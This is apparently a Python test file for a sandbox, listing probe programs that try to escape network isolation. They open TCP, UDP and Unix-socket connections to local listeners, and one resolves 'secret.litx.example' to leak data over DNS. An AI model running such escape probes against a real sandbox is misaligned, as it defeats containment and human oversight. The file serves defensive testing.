"""Attacks over the network: sending data, or a query."""

from tests.attacks.attack import Harm, attack, program

_TCP = "import socket\nsocket.create_connection(('127.0.0.1', {port}), 1).send(b'x')"
_UDP = """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.sendto(b'x', ('127.0.0.1', {udp_port}))
"""
_ABSTRACT = """
import socket
with socket.socket(socket.AF_UNIX) as out:
    out.connect(chr(0) + '{abstract}')
    out.send(b'x')
"""
_FILE = "import socket\nsocket.socket(socket.AF_UNIX).connect('{unix_path}')"
_NAME = "import socket\nsocket.getaddrinfo('secret.litx.example', 80)"

ATTACKS = (
    attack("14 net_tcp: connect to a listener", program(_TCP, Harm.packet, "R KP")),
    attack("15 net_udp: send a datagram to a listener", program(_UDP, Harm.packet, "R KP")),
    attack(
        "16 net_unix_abstract: reach a listener that has a name but no file",
        program(_ABSTRACT, Harm.packet, "R KP"),
        with_a_file=program(_FILE, Harm.packet, "R KP"),
    ),
    attack("17 dns: look up a name that is a secret", program(_NAME, Harm.packet, "R PKT")),
)
